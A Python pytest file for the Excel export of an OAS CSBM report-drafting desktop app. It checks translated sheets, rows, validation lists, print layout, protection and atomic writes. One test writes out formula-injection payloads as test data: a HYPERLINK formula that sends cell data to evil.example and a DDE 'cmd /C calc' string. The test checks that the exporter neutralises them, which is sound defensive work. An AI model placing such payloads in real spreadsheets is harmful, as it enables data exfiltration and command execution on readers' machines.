"""The Excel workbook, reopened with openpyxl: what an OAS reader and a transcribing clerk find."""

from __future__ import annotations

import hashlib
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]
from openpyxl.utils import get_column_letter  # type: ignore[import-untyped]

from csbm_desktop.domain.derive import with_derived
from csbm_desktop.domain.form import FormSpec
from csbm_desktop.domain.report import Report
from csbm_desktop.domain.workflow import Actor
from csbm_desktop.export.meta import ExportMeta
from csbm_desktop.export.xlsx import CHECK, LABELS, build_workbook, clean
from csbm_desktop.services.demo import create_demo
from csbm_desktop.services.documents import canonical_json
from csbm_desktop.services.drafting import DraftingService
from csbm_desktop.services.workspace import Workspace

SHEETS = ("summary", "measures", "activities", "characteristics", "metadata", "lists")
KEYED = ("measures", "activities", "characteristics")  # row 1: stable keys, row 2: the heads


def make_meta(report: Report, status: str | None = None) -> ExportMeta:
    sha = hashlib.sha256(canonical_json(report).encode()).hexdigest()
    return ExportMeta(
        document_id=f"CSBM-{report.state}-{report.year}-r{report.revision}-{sha[:8]}",
        content_sha256=sha,
        revision=report.revision,
        status=status or report.status,
        generated_at=datetime(2026, 3, 20, 14, 30, tzinfo=UTC),
        generated_by="olga.officer",
        app_version="1.0.0",
    )


def build(
    tmp_path: Path, report: Report, spec: FormSpec, lang: str, status: str | None = None
) -> tuple[Any, ExportMeta]:
    meta = make_meta(report, status)
    out = tmp_path / f"report-{lang}.xlsx"
    build_workbook(report, spec, lang, meta, out)
    assert out.is_file()
    assert not list(out.parent.glob(f".{out.name}.*.partial"))  # no temporary file left
    return load_workbook(out), meta


def sheet(wb: Any, key: str, lang: str) -> Any:
    return wb[LABELS[f"sheet.{key}"].get(lang)]


def table(ws: Any) -> tuple[list[str], list[dict[str, Any]]]:
    """Header and rows (as dicts by header) of a sheet whose header is row 1, or row 2 under
    the row of stable keys."""
    rows = list(ws.iter_rows(values_only=True))
    first = 1 if ws["A1"].style == "CSBM key" else 0
    head = [str(h) for h in rows[first]]
    return head, [dict(zip(head, r, strict=True)) for r in rows[first + 1 :]]


@pytest.mark.parametrize("lang", ["en", "es", "fr", "pt"])
def test_sheets_are_named_in_the_language(
    tmp_path: Path, demo: Report, demo_spec: FormSpec, lang: str
) -> None:
    wb, _ = build(tmp_path, demo, demo_spec, lang)
    assert wb.sheetnames == [LABELS[f"sheet.{k}"].get(lang) for k in SHEETS]
    assert [ws.sheet_state for ws in wb.worksheets] == ["visible"] * 5 + ["hidden"]
    assert wb.active.title == LABELS["sheet.summary"].get(lang)


def test_activities_one_row_each_with_every_field(
    tmp_path: Path, demo: Report, demo_spec: FormSpec
) -> None:
    wb, _ = build(tmp_path, demo, demo_spec, "es")
    ws = sheet(wb, "activities", "es")
    head, rows = table(ws)
    fields = demo_spec.activity_fields()
    for f in fields:
        assert f.label.get("es") in head
    assert head[0] == "Título"
    assert head[-1] == "ID de actividad"
    assert len(rows) == len(demo.activities) == ws.max_row - 2

    titles = [r["Título"] for r in rows]
    assert titles == [a.text("title") for a in demo.activities]
    assert any(any(ord(ch) > 127 for ch in t) for t in titles)  # accents survive
    assert [r["ID de actividad"] for r in rows] == [a.uid for a in demo.activities]

    start_col = head.index("Fecha de inicio") + 1
    for i, a in enumerate(demo.activities, start=3):
        cell = ws.cell(row=i, column=start_col)
        assert cell.is_date
        assert "yyyy" in cell.number_format
        assert cell.value.date() == date.fromisoformat(a.text("start_date"))
        measure = demo_spec.measure(a.measure_id)
        row = rows[i - 3]
        assert row["Medida (n.º del formulario)"] == int(measure.number)
        assert row["Medida"] == measure.title.get("es")
        assert row["Características a las que contribuye"] == ", ".join(
            str(n) for n in a.characteristics
        )
        partners = a.values.get("partner_states") or []
        assert isinstance(partners, list)
        expected = "; ".join(demo_spec.state(str(p)).name.get("es") for p in partners)  # type: ignore[union-attr]
        assert row["Estados participantes"] == (expected or None)

    for c in demo_spec.characteristics:
        column = f"{c.number}. {c.name.get('es')}"
        marks = [r[column] == CHECK for r in rows]
        assert marks == [c.number in a.characteristics for a in demo.activities]
        assert all(r[column] in (CHECK, None) for r in rows)

    [with_file] = [r for r in rows if r["Anexos"]]
    assert with_file["Anexos"] == "resumen-libro-blanco.txt"


@pytest.mark.parametrize(
    ("lang", "implemented", "partly", "yes", "no"),
    [
        ("es", "Aplicada", "Aplicada parcialmente", "Sí", "No"),
        ("fr", "Appliquée", "Partiellement appliquée", "Oui", "Non"),
    ],
)
def test_measures_one_row_per_catalogue_measure_translated(
    tmp_path: Path,
    demo: Report,
    demo_spec: FormSpec,
    lang: str,
    implemented: str,
    partly: str,
    yes: str,
    no: str,
) -> None:
    wb, _ = build(tmp_path, demo, demo_spec, lang)
    head, rows = table(sheet(wb, "measures", lang))
    assert head[:6] == [
        LABELS[k].get(lang)
        for k in ("form_number", "ref_2009", "ref_online", "source", "category_form", "measure")
    ]
    assert len(rows) == len(demo_spec.measures)
    status_col, nothing_col = LABELS["status"].get(lang), LABELS["nothing_to_report"].get(lang)
    activities_col = LABELS["activities"].get(lang)
    statuses = demo_spec.choice_list("measure_status")
    for m, row in zip(demo_spec.measures, rows, strict=True):
        entry = demo.measure(m.id)
        assert row[LABELS["measure"].get(lang)] == m.title.get(lang)
        assert row[status_col] == (statuses.label(entry.status, lang) if entry.status else None)
        assert row[nothing_col] == (yes if entry.nothing_to_report else no)
        assert row[activities_col] == len(demo.activities_of(m.id))
    values = {row[status_col] for row in rows}
    assert {implemented, partly} <= values
    assert "implemented" not in values  # labels, never codes


def test_characteristics_questions_answers_and_counts(
    tmp_path: Path, demo: Report, demo_spec: FormSpec
) -> None:
    shown = with_derived(demo, demo_spec)  # as the export service builds it
    wb, _ = build(tmp_path, shown, demo_spec, "es")
    _, rows = table(sheet(wb, "characteristics", "es"))
    questions = [(c, q) for c in demo_spec.characteristics for q in c.questions]
    assert len(rows) == len(questions)
    for (c, q), row in zip(questions, rows, strict=True):
        assert row["N.º"] == c.number
        assert row["Característica"] == c.name.get("es")
        assert row["ID de pregunta"] == q.id
        assert row["Pregunta"] == q.label.get("es")
        assert row["Actividades que contribuyen"] == len(demo.activities_serving(c.number))
        answer = shown.answers.get(q.id)
        if q.type == "choice":
            assert row["Respuesta"] == demo_spec.choice_list(q.choices or "").label(
                str(answer), "es"
            )
        elif q.type == "boolean":
            assert row["Respuesta"] == ("Sí" if answer else "No")
        elif q.type == "integer":
            assert row["Respuesta"] == answer
        elif q.type == "multichoice":
            assert isinstance(answer, list)
            labels = demo_spec.choice_list(q.choices or "")
            assert row["Respuesta"] == "; ".join(labels.label(str(a), "es") for a in answer)
        else:
            assert row["Respuesta"] == answer


def test_metadata_and_summary_carry_identity_and_counts(
    tmp_path: Path, demo: Report, demo_spec: FormSpec
) -> None:
    wb, meta = build(tmp_path, demo, demo_spec, "fr")
    head, rows = table(sheet(wb, "metadata", "fr"))
    assert head == ["Clé", "Élément", "Valeur"]
    values = {r["Clé"]: r["Valeur"] for r in rows}
    assert values["document_id"] == meta.document_id
    assert values["content_sha256"] == meta.content_sha256
    assert values["revision"] == demo.revision == 1
    assert values["status"] == "draft"
    assert values["generated_at"] == "2026-03-20T14:30:00Z"
    assert values["form_id"] == demo_spec.id
    assert values["form_version"] == demo_spec.version
    assert values["source_document"] == demo_spec.source.document
    assert values["language"] == "fr"
    assert "protection" not in values  # only final workbooks are protected

    summary = sheet(wb, "summary", "fr")
    assert summary["A1"].value == demo_spec.title.get("fr")
    items = {r[0]: r[1] for r in summary.iter_rows(min_row=5, values_only=True) if r[0] is not None}
    assert items["Identifiant du document"] == meta.document_id
    assert items["SHA-256 du contenu"] == meta.content_sha256
    assert items["Statut du rapport"] == "Brouillon"  # the one wording (status.draft)
    assert items["État déclarant"] == "Argentine"
    assert items["Période couverte du"] == datetime(2025, 1, 1)
    assert items["Diffusion"] == "Public"
    assert items["Activités"] == len(demo.activities)
    assert items["Mesures : Appliquée"] == sum(
        demo.measure(m.id).status == "implemented" for m in demo_spec.measures
    )
    for c in demo_spec.characteristics:
        assert items[f"{c.number}. {c.name.get('fr')}"] == len(demo.activities_serving(c.number))


def test_layout_validation_freeze_filter_print(
    tmp_path: Path, demo: Report, demo_spec: FormSpec
) -> None:
    wb, meta = build(tmp_path, demo, demo_spec, "es")
    measures, activities = sheet(wb, "measures", "es"), sheet(wb, "activities", "es")

    ranges = {
        str(dv.sqref): dv.formula1.replace("'", "")
        for dv in measures.data_validations.dataValidation
    }
    last = len(demo_spec.measures) + 2
    assert ranges[f"G3:G{last}"] == "Listas!$A$2:$A$5"  # status
    assert ranges[f"H3:H{last}"] == "Listas!$B$2:$B$3"  # nothing to report: Sí/No
    lists = sheet(wb, "lists", "es")
    assert [lists.cell(row=r, column=1).value for r in range(2, 6)] == [
        "Aplicada",
        "Aplicada parcialmente",
        "No aplicada",
        "No corresponde",
    ]
    assert [lists.cell(row=r, column=2).value for r in (2, 3)] == ["Sí", "No"]
    # A drop-down per characteristic tick column and per single-choice activity field.
    single_choices = [f for f in demo_spec.activity_fields() if f.type == "choice"]
    assert len(activities.data_validations.dataValidation) == len(demo_spec.characteristics) + len(
        single_choices
    )

    assert measures.freeze_panes == "A3"
    assert activities.freeze_panes == "B3"  # the title stays in view
    assert sheet(wb, "summary", "es").freeze_panes == "A5"
    for ws in wb.worksheets:
        assert ws.auto_filter.ref, ws.title
        assert ws.print_title_rows, ws.title
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.oddHeader.center.text == meta.document_id
        assert ws.oddHeader.right.text == "BORRADOR"  # not final
        assert "&P" in ws.oddFooter.right.text
        assert ws.protection.sheet is False
    assert activities.print_title_rows == "$2:$2"
    last_column = get_column_letter(activities.max_column)  # the form decides how many
    assert activities.auto_filter.ref == f"A2:{last_column}{len(demo.activities) + 2}"
    # the columns that print: title, measure no., the fields a reader needs; not the ✓ marks
    assert activities.print_area == f"'Actividades'!$A$2:$I${len(demo.activities) + 2}"
    keys = [activities.cell(row=1, column=c).value for c in range(1, activities.max_column + 1)]
    assert keys[:10] == [
        "title", "measure", "start_date", "end_date", "place", "partner_states",
        "description", "outcome", "characteristics", "measure_title",
    ]  # fmt: skip
    assert keys[-8:] == [f"c{n}" for n in range(1, 8)] + ["activity_id"]

    head, _ = table(activities)
    widths = {
        h: activities.column_dimensions[activities.cell(row=2, column=i).column_letter].width
        for i, h in enumerate(head, start=1)
    }
    assert widths["Descripción"] <= 70
    description = get_column_letter(head.index("Descripción") + 1)
    assert activities[f"{description}3"].alignment.wrap_text  # the description wraps
    assert widths["ID de actividad"] <= 12
    assert all(6 <= w <= 70 for w in widths.values())
    assert measures["A2"].font.b
    assert measures["A2"].fill.fgColor.rgb.endswith("D9E1F2")


def test_final_is_protected_and_described(
    tmp_path: Path, demo: Report, demo_spec: FormSpec
) -> None:
    wb, meta = build(tmp_path, demo, demo_spec, "pt", status="final")
    for ws in wb.worksheets:
        assert ws.protection.sheet is True, ws.title
        assert ws.protection.password is None  # against slips, not a security measure
        assert ws.protection.autoFilter is False  # readers may still filter
        assert ws.oddHeader.right.text is None  # no DRAFT mark
    _, rows = table(sheet(wb, "metadata", "pt"))
    values = {r["Chave"]: r["Valor"] for r in rows}
    assert "acidentais" in values["protection"]
    props = wb.properties
    assert props.title.startswith(demo_spec.title.get("pt"))
    assert "Argentina" in props.title
    assert props.creator == "olga.officer"
    assert meta.document_id in props.keywords
    assert "CSBM" in props.keywords
    assert props.identifier == meta.document_id
    assert props.language == "pt"


def test_draft_workbook_has_properties_too(
    tmp_path: Path, demo: Report, demo_spec: FormSpec
) -> None:
    wb, meta = build(tmp_path, demo, demo_spec, "en")
    assert wb.properties.identifier == meta.document_id
    assert wb.properties.creator == "olga.officer"
    assert wb.properties.contentStatus == "Draft"


def test_formula_injection_and_illegal_characters(
    tmp_path: Path, service: DraftingService, spec: FormSpec
) -> None:
    report = service.create("CHL", 2025)
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    service.add_activity(
        report.id,
        "m02",
        {
            "title": evil,
            "start_date": "2025-05-02",
            "place": "+56 2 2222 2222",
            "description": "Bell\x07 and vertical\x0btab, kept: tab\tand\nnewline",
            "outcome": "@SUM(1+1)*cmd|' /C calc'!A0",
            "public_reference": "-2+3",
        },
    )
    service.add_activity(report.id, "m02", {"title": "#N/A", "start_date": "2025-05-03"})
    report = service.get(report.id)
    wb, _ = build(tmp_path, report, service.form_of(report), "en")
    ws = sheet(wb, "activities", "en")
    head, rows = table(ws)
    col = {h: i for i, h in enumerate(head, start=1)}

    title = ws.cell(row=3, column=col["Title"])
    assert title.data_type == "s"  # text, not a formula
    assert title.value == evil
    assert title.quotePrefix
    for name, text in (
        ("Place", "+56 2 2222 2222"),
        ("Outcome", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("Public reference", "-2+3"),
    ):
        cell = ws.cell(row=3, column=col[name])
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)
    assert rows[0]["Description"] == "Bell and verticaltab, kept: tab\tand\nnewline"
    assert not ws.cell(row=3, column=col["Description"]).quotePrefix
    na = ws.cell(row=4, column=col["Title"])
    assert (na.data_type, na.value) == ("s", "#N/A")  # not an error value


def test_clean() -> None:
    assert clean("a\x00b\x1fc\ud800d\ufffe") == "abcd"
    assert clean("one\r\ntwo") == "one\ntwo"
    long = clean("x" * 40000)
    assert len(long) == 32767
    assert long.endswith("…")


def test_empty_report_builds(tmp_path: Path, service: DraftingService) -> None:
    report = service.create("URY", 2025)
    spec = service.form_of(report)
    wb, meta = build(tmp_path, report, spec, "es")
    activities = sheet(wb, "activities", "es")
    assert activities.max_row == 2
    _, rows = table(sheet(wb, "measures", "es"))
    assert len(rows) == len(spec.measures)
    assert all(r["Estado"] is None and r["Nada que informar"] == "No" for r in rows)
    summary = {
        r[0]: r[1]
        for r in sheet(wb, "summary", "es").iter_rows(min_row=5, values_only=True)
        if r[0]
    }
    assert summary["Revisión"] == LABELS["working_copy"].get("es")
    assert summary["Medidas aún sin respuesta"] == len(spec.measures)
    assert meta.revision == 0


def test_write_is_atomic(tmp_path: Path, service: DraftingService) -> None:
    report = service.create("URY", 2025)
    spec = service.form_of(report)
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "report.xlsx"
    out.write_bytes(b"previous")
    build_workbook(report, spec, "en", make_meta(report), out)
    assert out.read_bytes()[:2] == b"PK"
    assert list(out.parent.iterdir()) == [out]

    missing = tmp_path / "no-such-dir" / "report.xlsx"
    with pytest.raises(OSError):  # noqa: PT011 - any OS error; the caller words it
        build_workbook(report, spec, "en", make_meta(report), missing)
    assert not missing.parent.exists()  # nothing written, not even the folder


def test_large_demo_smoke(tmp_path: Path, workspace: Workspace, drafter: Actor) -> None:
    report = create_demo(workspace, drafter, size="large", state="BRA", year=2024)
    spec = DraftingService(workspace, drafter).form_of(report)
    wb, _ = build(tmp_path, report, spec, "pt")  # its time is measured in bench/exports.py
    ws = sheet(wb, "activities", "pt")
    assert ws.max_row == len(report.activities) + 2 >= 520
